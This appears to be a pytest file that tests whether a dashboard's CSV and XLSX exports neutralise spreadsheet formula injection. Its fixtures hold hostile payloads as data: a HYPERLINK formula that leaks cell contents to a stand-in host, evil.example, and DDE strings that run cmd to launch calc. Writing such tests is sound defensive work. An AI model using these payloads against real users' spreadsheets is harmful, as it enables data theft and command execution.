"""Formula injection (CSV injection) in the exports: hostile names never become spreadsheet formulas (issue 17).

A site, organisation or follow-up label named `=HYPERLINK(...)` is written by
an admin (or by whoever got an admin's password) and opened by every manager
who downloads the figures. In CSV such a cell is neutralised with a leading
quote (OWASP); in XLSX every text cell is a string, never a formula.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from web_support import Press, login, quick_user, store_presses

from collector.db import connect
from collector.exports import csv_cell
from collector.registry import add_kiosk, add_org, add_site
from ressenti.protocol import format_ts, utc_now

DAY = date(2026, 10, 6)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
ATTACKS = [HYPERLINK, DDE, MINUS, AT, TAB, CR]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_TABLES = ("days", "heatmap", "sites", "channels", "reasons", "hours")


@pytest.fixture
def hostile_client(app):
    """Two sites and an organisation with hostile names, and follow-up labels that are formulas."""
    db = connect(app.config["DATABASE"])
    add_org(db, "ville", HYPERLINK)
    add_site(db, "mairie", HYPERLINK, org="ville", scale=4)
    add_site(db, "annexe", DDE, org="ville", scale=3)
    add_kiosk(db, "borne-1", "mairie")
    add_kiosk(db, "borne-2", "annexe")
    when = datetime(2026, 10, 6, 10, tzinfo=utc_now().tzinfo)
    store_presses(db, "borne-1", "mairie",
                  [Press(when.replace(minute=m), 1 + m % 4, "touch",
                         followup={"question": "why", "choice": "wait" if m % 2 else "place"})
                   for m in range(24)])
    store_presses(db, "borne-2", "annexe", [Press(when.replace(minute=m), 1 + m % 3) for m in range(12)])
    settings = {"followup": {"id": "why", "choices": [{"id": "wait", "fr": MINUS, "en": AT},
                                                      {"id": "place", "fr": TAB, "en": CR}]}}
    db["kiosk_config"].insert({"kiosk": "borne-1", "site": "mairie", "rev": 1, "settings": json.dumps(settings),
                               "pushed_at": format_ts(utc_now()), "pushed_by": "alice"})
    quick_user(db, "alice", "admin")
    db.close()
    client = app.test_client()
    login(client, "alice")
    return client


def period(scope: str = "org:ville") -> str:
    return f"scope={scope}&from={DAY.isoformat()}&to={DAY.isoformat()}"


def csv_cells(client, table: str, scope: str = "org:ville") -> list[list[str]]:
    response = client.get(f"/dashboard/export.csv?{period(scope)}&table={table}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("value", ATTACKS)
def test_csv_cell_quotes_every_formula_start(value):
    assert csv_cell(value) == "'" + value
    assert csv_cell("Mairie = accueil") == "Mairie = accueil", "only a leading sign is a formula"
    assert csv_cell(-0.25) == -0.25, "numbers stay numbers (a negative net satisfaction)"


@pytest.mark.parametrize("table", CSV_TABLES)
def test_csv_injection_no_cell_of_any_table_starts_a_formula(hostile_client, table):
    rows = csv_cells(hostile_client, table)
    assert len(rows) > 1, f"the {table} table has rows to check"
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS) or _is_number(value), (table, value)


def test_csv_injection_hostile_texts_are_kept_behind_a_quote(hostile_client):
    names = {row[1] for row in csv_cells(hostile_client, "sites")[1:]}
    assert names == {"'" + HYPERLINK, "'" + DDE}, "the name is kept, neutralised"
    assert "'" + HYPERLINK in {row[1] for row in csv_cells(hostile_client, "days")[1:]}
    reasons = csv_cells(hostile_client, "reasons")
    labels = {value for row in reasons[1:] for value in row[2:4]}
    assert labels == {"'" + MINUS, "'" + AT, "'" + TAB, "'" + CR}


def test_xlsx_injection_no_cell_of_any_sheet_is_a_formula(hostile_client):
    response = hostile_client.get(f"/dashboard/export.xlsx?{period()}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["about", "days", "heatmap", "sites", "channels", "reasons"]
    texts = set()
    for sheet in book.worksheets:
        assert sheet.max_row > 1, f"the {sheet.title} sheet has rows to check"
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    # The texts themselves are kept as they were typed (strings, so nothing runs).
    assert {HYPERLINK, DDE, MINUS, AT, TAB} <= texts
    assert {"\r=1+1", "\n=1+1"} & texts, "XML keeps a carriage return as a line break, still text"
    assert any(HYPERLINK in text for text in texts if text != HYPERLINK), "the about sheet's scope label"
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_xlsx_injection_about_sheet_of_a_hostile_site_scope(hostile_client):
    response = hostile_client.get(f"/dashboard/export.xlsx?{period('site:mairie')}")
    about = load_workbook(io.BytesIO(response.data))["about"]
    scope = {row[0].value: row[1] for row in about.iter_rows()}["scope"]
    assert scope.value == HYPERLINK and scope.data_type == "s"


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True
